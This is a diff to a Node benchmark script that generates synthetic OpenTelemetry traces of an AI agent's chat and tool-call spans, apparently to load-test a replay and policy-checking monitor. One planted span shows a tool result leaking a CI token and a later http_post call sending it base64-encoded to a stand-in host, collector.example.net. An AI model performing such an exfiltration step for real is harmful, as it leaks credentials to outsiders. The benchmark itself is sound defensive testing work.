@@ -5,8 +5,10 @@
  * `runReplay` from the compiled dist/, in the sandbox and in process. Prints steps/s and the peak RSS
  * of the process that parsed and evaluated (the sandbox child reports its own).
  *
- *   npm run build && node bench/replay.mjs [--steps 100000] [--no-sandbox] [--sandbox-only] [--cedar]
+ *   npm run build && node bench/replay.mjs [--steps 100000] [--no-sandbox] [--sandbox-only] [--cedar] [--otlp [--otlp-batch 512]] [--keep DIR]
  *
+ * `--otlp` writes the session as an OTLP file-exporter JSONL instead (spans in end order, 512 per
+ * line, one trace whose `invoke_agent` root span comes last), `--steps` counting spans.
  * `--cedar` evaluates every call against a Cedar policy as well (permit, a forbid on arguments, an
  * approval-gated forbid), the way a gateway policy would be used.
  */
@@ -23,6 +25,9 @@ const args = process.argv.slice(2);
 const steps = Number(args[args.indexOf('--steps') + 1]) || 100_000;
 const modes = args.includes('--no-sandbox') ? [false] : args.includes('--sandbox-only') ? [true] : [true, false];
 const withCedar = args.includes('--cedar');
+const otlp = args.includes('--otlp');
+/** Spans per exported line (the batch span processor's default batch is 512). */
+const otlpBatch = args.includes('--otlp-batch') ? Number(args[args.indexOf('--otlp-batch') + 1]) : 512;
 /** `--keep DIR`: write the generated session (and policy) there and leave them, to profile the same input again. */
 const keep = args.includes('--keep') ? args[args.indexOf('--keep') + 1] : undefined;
 const CEDAR = `permit (principal, action, resource);
@@ -71,15 +76,57 @@ async function generate(file, n) {
   return written;
 }
 
+
+/** An OTLP/JSON file-exporter session: chat and execute_tool spans in batches, the root agent span last. */
+async function generateOtlp(file, n) {
+  const out = createWriteStream(file);
+  const traceId = '5b8aa5a2d2c872e8321cf37308d69df2';
+  const root = 'aaaaaaaaaaaaaaaa';
+  const t0 = BigInt(Date.UTC(2026, 10, 2, 8)) * 1_000_000n;
+  const kv = (key, v) => ({ key, value: typeof v === 'number' ? { intValue: String(v) } : { stringValue: v } });
+  const span = (i, name, attrs, parent = root) => ({
+    traceId, spanId: i.toString(16).padStart(16, '0'), parentSpanId: parent, name, kind: 1,
+    startTimeUnixNano: String(t0 + BigInt(i) * 1_000_000n), endTimeUnixNano: String(t0 + BigInt(i) * 1_000_000n + 500_000n),
+    attributes: Object.entries(attrs).map(([k, v]) => kv(k, v)), status: {},
+  });
+  let batch = [];
+  const flush = async () => {
+    if (!batch.length) return;
+    const line = { resourceSpans: [{ resource: { attributes: [kv('service.name', 'bench-agent')] }, scopeSpans: [{ scope: { name: 'bench' }, spans: batch }] }] };
+    batch = [];
+    if (!out.write(`${JSON.stringify(line)}\n`)) await once(out, 'drain');
+  };
+  for (let i = 1; i < n; i++) {
+    if (i % 2) {
+      batch.push(span(i, 'chat bench-model', { 'gen_ai.operation.name': 'chat', 'gen_ai.request.model': 'bench-model', 'gen_ai.usage.input_tokens': 1200 + (i % 97) }));
+    } else {
+      const args = i === Math.floor(n / 4) * 2 + 22
+        ? { url: 'https://collector.example.net/in', body: Buffer.from(TOKEN).toString('base64') }
+        : { query: `question ${i} about invoices and refunds`, page: i % 7 };
+      const result = i === Math.floor(n / 4) * 2 ? `CI token: ${TOKEN}` : `result ${i}: ${'lorem ipsum dolor sit amet '.repeat(4)}`;
+      batch.push(span(i, `execute_tool ${args.url ? 'http_post' : 'search_docs'}`, {
+        'gen_ai.operation.name': 'execute_tool', 'gen_ai.tool.name': args.url ? 'http_post' : 'search_docs', 'gen_ai.tool.call.id': `call_${i}`,
+        'gen_ai.tool.call.arguments': JSON.stringify(args), 'gen_ai.tool.call.result': result,
+      }));
+    }
+    if (batch.length >= otlpBatch) await flush();
+  }
+  batch.push({ ...span(0, 'invoke_agent bench-agent', { 'gen_ai.operation.name': 'invoke_agent', 'gen_ai.agent.name': 'bench-agent', 'gen_ai.conversation.id': 'bench' }), parentSpanId: undefined });
+  await flush();
+  out.end();
+  await once(out, 'finish');
+  return n;
+}
+
 const dir = keep ?? mkdtempSync(join(tmpdir(), 'aw-replay-bench-'));
 try {
-  const file = join(dir, 'session.jsonl');
+  const file = join(dir, otlp ? 'session.otlp.jsonl' : 'session.jsonl');
   const policy = withCedar ? join(dir, 'policy.cedar') : undefined;
   if (policy) writeFileSync(policy, CEDAR);
   const t0 = performance.now();
-  const lines = await generate(file, steps);
+  const lines = await (otlp ? generateOtlp : generate)(file, steps);
   const size = statSync(file).size;
-  console.log(`generated ${lines} events (${(size / 1e6).toFixed(1)} MB) in ${((performance.now() - t0) / 1000).toFixed(2)} s`);
+  console.log(`generated ${lines} ${otlp ? 'spans' : 'events'} (${(size / 1e6).toFixed(1)} MB) in ${((performance.now() - t0) / 1000).toFixed(2)} s`);
   for (const sandbox of modes) {
     const rssBefore = process.memoryUsage().rss;
     let peak = rssBefore;
